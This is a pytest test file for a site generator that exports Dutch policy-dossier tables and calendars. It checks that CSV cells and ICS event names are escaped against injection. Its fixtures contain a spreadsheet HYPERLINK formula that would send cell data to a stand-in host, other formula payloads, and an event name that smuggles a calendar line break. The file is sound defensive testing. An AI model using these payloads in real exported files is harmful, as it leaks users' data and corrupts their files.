"""Every table and calendar to download goes through the one writer of its kind, whatever the texts begin with."""

from __future__ import annotations

import csv
import io
from typing import Final

import pytest

from generator import build
from generator.dossier.findings import gather
from generator.dossier.index import build_index
from generator.model import Page
from generator.settings import Settings
from tests.support import write_all

_FORMULA: Final = '=HYPERLINK("http://elders.example/?x="&A1;"kade")'
_TEXT: Final = f"""\
NOTA OVER DE KADE

1. KADE

{_FORMULA} kreeg op 4 maart 2015 uit COM(2014) 77 final 3 miljoen EUR.

- @SUM(A1;=B2) kreeg uiterlijk op 5 maart 2016 nog 4 miljoen EUR uit Richtlijn 2013/32/EU;
"""
_SIDECAR: Final = "id: kade\ntitle: Nota over de kade\ndate: '2015-11-04'\n"
_EVENT: Final = '---\nname: "=1+1;\\r\\nEND:VEVENT"\ndate: "2015-03-04"\nphrases: [kreeg]\n---\n=Havens.\n'


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Page]:
    """The files of a dossier whose sentences are formulas."""
    folder = write_all(tmp_path_factory.mktemp("tables"), {"kade.txt": _TEXT, "kade.yml": _SIDECAR, "events/kadedag.md": _EVENT})
    dossier = build.gather(Settings(seeds=folder, docs=folder / "docs"))
    return {page.path: page for page in build.render(gather(build_index(dossier.documents, dossier.knowledge)), index=lambda _: ())}


@pytest.mark.parametrize(
    ("path", "column"), [("data/amounts.csv", "zin"), ("data/references.csv", "woorden"), ("tijdlijn/tijdlijn.csv", "zin")]
)
def test_no_cell_of_any_table_is_a_formula(path: str, column: str, written: dict[str, Page]) -> None:
    content = written[path].content
    assert isinstance(content, bytes)
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows
    assert all(row[column] for row in rows)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@")) or ";=" in cell]


def test_the_tables_hold_the_sentences_that_would_be_formulas(written: dict[str, Page]) -> None:
    for path in ("data/amounts.csv", "tijdlijn/tijdlijn.csv"):
        content = written[path].content
        assert isinstance(content, bytes)
        assert "'=HYPERLINK(" in content.decode()
        assert "'@SUM(A1;'=B2)" in content.decode()


def test_every_table_and_calendar_of_the_site_is_here(written: dict[str, Page]) -> None:
    assert {path for path in written if path.endswith((".csv", ".ics"))} == {
        "data/amounts.csv",
        "data/references.csv",
        "tijdlijn/tijdlijn.csv",
        "tijdlijn/tijdlijn.ics",
        "toezeggingen/toezeggingen.csv",
    }


def test_the_name_of_an_event_is_no_line_of_the_calendar(written: dict[str, Page]) -> None:
    content = written["tijdlijn/tijdlijn.ics"].content
    assert isinstance(content, bytes)
    assert content.count(b"\r\nBEGIN:VEVENT") == content.count(b"\r\nEND:VEVENT") > 0
    assert b"END:VEVENT\r\nEND:VCALENDAR" in content
